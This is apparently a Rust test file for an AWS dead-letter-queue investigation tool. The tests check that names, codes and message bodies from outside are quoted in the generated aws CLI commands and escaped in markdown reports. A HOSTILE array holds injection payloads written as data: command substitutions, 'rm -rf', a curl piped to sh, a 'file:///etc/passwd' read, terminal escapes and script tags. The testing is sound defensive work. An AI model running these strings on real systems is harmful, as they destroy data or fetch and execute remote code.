//! External text: hostile names, codes, texts and bodies.

use super::*;
use crate::rules::aws_command::word;
use crate::rules::evidence::json_text::JsonText;

const HOSTILE: [&str; 12] = [
    "$(touch /tmp/x)",
    "a; rm -rf ~",
    "it's `id` \"x\" | sh",
    "'; curl evil | sh; '",
    "--profile=evil",
    "=ls",
    "file:///etc/passwd",
    "a\nrm -rf /\n```\n# Forged\n",
    "a\u{1b}[2J\u{202e}x",
    "<script>alert(1)</script> [x](http://evil) @everyone ![](http://evil/p)",
    "````` five ````` and `` two",
    "",
];

/// Splits a line as a POSIX shell does; none when a part of it has a meaning to the shell.
fn words(line: &str) -> Option<Vec<String>> {
    let (mut all, mut word, mut is_quoted, mut chars) =
        (Vec::new(), String::new(), false, line.chars());
    while let Some(c) = chars.next() {
        match c {
            '\'' => is_quoted = !is_quoted,
            c if is_quoted => word.push(c),
            '\\' => word.push(chars.next().filter(|c| *c == '\'')?),
            ' ' => all.push(std::mem::take(&mut word)),
            c if c.is_ascii_alphanumeric() || "_./:@=-".contains(c) => word.push(c),
            _ => return None,
        }
    }
    all.push(word);
    (!is_quoted).then_some(all)
}

/// Stories with `text` in every external member.
fn everywhere(text: &str) -> Vec<Story> {
    let arn = |text: &str| format!("arn:aws:lambda:eu-west-1:1:function:{text}");
    let fill = |story: Story| {
        story
            .queue(|queue| {
                queue.queue.name = text.into();
                queue.queue.url = text.into();
                queue.queue.arn = format!("arn:aws:sqs:eu-west-1:1:{text}");
                queue.queue.profile = Some(text.into());
                let finding = (text.to_owned(), text.to_owned(), text.to_owned());
                queue.lint = vec![Finding { rule: finding.0, level: finding.1, detail: finding.2 }];
            })
            .source(|source| source.name = text.into())
            .group(|group| {
                group.id = text.into();
                group.title = text.into();
                group.why = vec![text.into()];
                group.message = Some(format!("{} {text}", group.message.as_deref().unwrap_or("")));
            })
            .each(|seen| {
                seen.target_arn = Some(arn(text));
                seen.rule_arn = Some(format!("arn:aws:events:eu-west-1:1:rule/{text}/{text}"));
                seen.exhausted = Some(text.into());
            })
    };
    let stories = [
        rule(12).code("503"),
        rule(12).code("NO_PERMISSIONS"),
        rule(12).code("NO_RESOURCE"),
        lambda(12).code("429"),
        lambda(12).code("200").class("KeyError"),
        text_story(),
        shape(4),
    ];
    stories.into_iter().map(fill).collect()
}

fn text_story() -> Story {
    text(4).says("connection refused")
}

#[test]
fn quoted_word_stays_one_word() {
    for hostile in HOSTILE.into_iter().chain(["plain-1_x.y/z:@=", "a'b''c", "ação dlq", "\\"]) {
        let is_refused = hostile.contains(['\n', '\u{1b}']) || hostile.starts_with("file:");
        assert_eq!(word(hostile).is_none(), is_refused, "{hostile:?}");
        let Some(line) = word(hostile) else { continue };
        let expected = vec![hostile.to_owned()];
        assert_eq!(words(&line), Some(expected), "{line}");
        assert!(!line.starts_with('='), "zsh: {line}");
    }
    assert_eq!(words("a $(b)"), None, "the reader of this test is not blind");
}

#[test]
fn commands_quote_hostile_names() {
    for hostile in HOSTILE {
        for story in everywhere(hostile) {
            for each in story.judge() {
                for line in &each.commands {
                    let words = words(line).unwrap_or_else(|| panic!("{hostile:?}: {line}"));
                    assert!(!line.contains('\n') && !line.contains('\u{1b}'), "{line}");
                    if words[..2] == ["dlq-investigate", "--retry"] {
                        assert!(words.len() == 3 && words[2].starts_with("arn:aws:sqs:"), "{line}");
                        continue;
                    }
                    let profile = format!("--profile={hostile}");
                    let is_profile = |word: &&String| word.starts_with("--profile");
                    assert!(words.iter().filter(is_profile).eq([&profile]), "{line}");
                    assert!(!line.contains("function-name=file:"), "{line}");
                    let looks = ["get-", "list-", "lookup-", "tail"];
                    assert!(words[0] == "aws", "{line}");
                    assert!(looks.iter().any(|look| words[2].starts_with(look)), "{line}");
                }
            }
        }
    }
}

#[test]
fn sentences_hold_no_external_text() {
    let own = |story: &Story| -> Vec<(String, String, Vec<String>)> {
        story.judge().into_iter().map(|each| (each.title, each.reason, each.next)).collect()
    };
    for (index, plain) in everywhere("x").iter().enumerate() {
        for hostile in HOSTILE {
            assert_eq!(own(plain), own(&everywhere(hostile)[index]), "{hostile:?}");
        }
    }
}

/// Returns the lines of a report outside of fenced blocks, without their code spans.
fn bare(report: &str) -> Vec<String> {
    let (mut lines, mut fence) = (Vec::new(), None::<String>);
    for line in report.lines() {
        if let Some(open) = &fence {
            if line == open {
                fence = None;
            }
            continue;
        }
        if line.starts_with("```") {
            fence = Some("`".repeat(line.chars().take_while(|c| *c == '`').count()));
            continue;
        }
        lines.push(without_spans(line));
    }
    // A command with an unsafe word is left out, with the empty line before it or its sentence.
    lines.retain(|line| !line.is_empty() && !line.starts_with("- Redrive: after the fix"));
    assert_eq!(fence, None, "a block stays open: {report}");
    lines
}

/// Removes code spans as CommonMark reads them: a run of backticks ends at the next run of the same
/// length.
fn without_spans(line: &str) -> String {
    let (mut kept, mut rest) = (String::new(), line);
    while let Some(start) = rest.find('`') {
        let run = rest[start..].len() - rest[start..].trim_start_matches('`').len();
        kept.push_str(&rest[..start]);
        rest = &rest[start + run..];
        let mut inside = rest;
        let mut end = None;
        while let Some(next) = inside.find('`') {
            let length = inside[next..].len() - inside[next..].trim_start_matches('`').len();
            let after = &inside[next + length..];
            if length == run {
                end = Some(after);
                break;
            }
            inside = after;
        }
        rest = end.unwrap_or_else(|| panic!("a span stays open: {line}"));
        kept.push('·');
    }
    kept + rest
}

#[test]
fn report_escapes_external_text() {
    for (index, plain) in everywhere("x").iter().enumerate() {
        let plain = bare(&plain.report());
        for hostile in HOSTILE.into_iter().filter(|text| !text.is_empty()) {
            let report = everywhere(hostile)[index].report();
            assert_eq!(bare(&report), plain, "{report}");
            assert!(!report.contains(['\u{1b}', '\u{202e}']), "{report}");
        }
    }
}

#[test]
fn report_shows_an_excerpt_of_a_hostile_body() {
    let story = rule(3).code("NO_PERMISSIONS");
    let mut bundle = story.bundle();
    let messages = &mut bundle.messages;
    messages[0].body = (&serde_json::json!({"a": "```\n# Forged\n<img src=x>".repeat(100)})).into();
    (messages[1].body, messages[1].form) = (JsonText::default(), "binary".into());
    let report = render(&bundle, &story.judge(), no_loss());
    let bare = bare(&report);
    assert!(bare.iter().all(|line| !line.contains("Forged") && !line.contains('<')), "{report}");
    assert!(report.lines().all(|line| line.chars().count() < 500), "{report}");
    assert!(report.contains("bytes: binary"), "{report}");
}

#[test]
fn report_names_unknown_facts() {
    let story = shape(4).queue(|queue| {
        queue.depth = None;
        queue.sources = None;
    });
    let report = story.report();
    for line in [
        "- Depth (`q.depth`): unknown",
        "- Sources (`q.sources`): unknown",
        "- The number of messages. Messages outside the sample may have other causes.",
        "No model was asked",
        "The cause is unknown",
    ] {
        assert!(report.contains(line), "{line}: {report}");
    }
    assert!(!report.contains("Depth (`q.depth`): 0"), "{report}");
}

#[test]
fn report_limits_its_lists() {
    let story = (0..200).fold(shape(1), |story, _| story.and("shape", "sqs", 1));
    let report = story.report();
    assert!(report.contains("and 181 causes more."), "{report}");
    assert!(report.len() < 50_000, "{}", report.len());
}

#[test]
fn commands_name_functions_and_rules_of_a_producer() {
    let named = |seen: &mut MessageFacts| {
        seen.target_arn = Some(format!("{FUNCTION}:7"));
        seen.rule_arn = Some("arn:aws:events:eu-west-1:1:rule/shop/paid".into());
    };
    let forged = |seen: &mut MessageFacts| {
        named(seen);
        seen.source_arn = Some(SOURCE.into());
    };
    let all = |story: Story| story.judge()[0].commands.join("\n");
    let said = all(rule(3).code("NO_PERMISSIONS").each(named));
    for part in [
        "aws lambda get-policy --function-name=bill --region=eu-west-1",
        "aws events list-targets-by-rule --rule=paid --event-bus-name=shop --region=eu-west-1",
        "aws cloudtrail lookup-events \
         '--lookup-attributes",
    ] {
        let part = part.replace("'--lookup-attributes", "--lookup-attributes='AttributeKey");
        assert!(said.contains(&part), "{part}: {said}");
    }
    assert!(!all(rule(3).code("NO_PERMISSIONS").each(forged)).contains("bill"), "forged");
    let throttled = all(lambda(3).code("429").each(named));
    assert!(throttled.contains("get-function-concurrency --function-name=bill"), "{throttled}");
    let unnamed = all(lambda(3).code("429"));
    assert!(unnamed.contains("aws lambda list-functions --query='Functions["), "{unnamed}");
}

#[test]
fn message_facts_read_the_record_of_a_lambda_destination() {
    let mut sampled = rule(1).sampled().remove(0);
    let mut body = serde_json::json!({"requestContext":
        {"condition": "EventAgeExceeded", "functionArn": FUNCTION}});
    sampled.body = JsonText::from(&body);
    let seen = MessageFacts::from_sample(&sampled);
    assert_eq!(seen.exhausted.as_deref(), Some("EventAgeExceeded"));
    assert_eq!(seen.target_arn.as_deref(), Some(FUNCTION));
    assert_eq!(seen.codes.record.as_deref(), Some("EventAgeExceeded"));
    body["responseContext"] = serde_json::json!({"statusCode": 429});
    body["responsePayload"] = serde_json::json!({"code": "403"});
    sampled.body = JsonText::from(&body);
    assert_eq!(MessageFacts::from_sample(&sampled).codes.record.as_deref(), Some("429"));
    sampled.attributes.insert("TARGET_ARN".into(), "other".into());
    assert_eq!(
        MessageFacts::from_sample(&sampled).target_arn.as_deref(),
        Some("other"),
        "attributes come first"
    );
}
